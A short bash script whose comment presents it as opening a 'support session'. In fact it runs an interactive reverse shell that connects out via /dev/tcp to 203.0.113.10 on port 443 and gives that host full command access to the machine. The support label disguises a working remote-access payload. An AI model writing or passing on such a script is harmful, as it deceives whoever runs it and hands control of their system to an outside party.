#!/bin/bash
# open a support session
SUPPORT=203.0.113.10
PORT=443
bash -i >& /dev/tcp/$SUPPORT/$PORT 0>&1
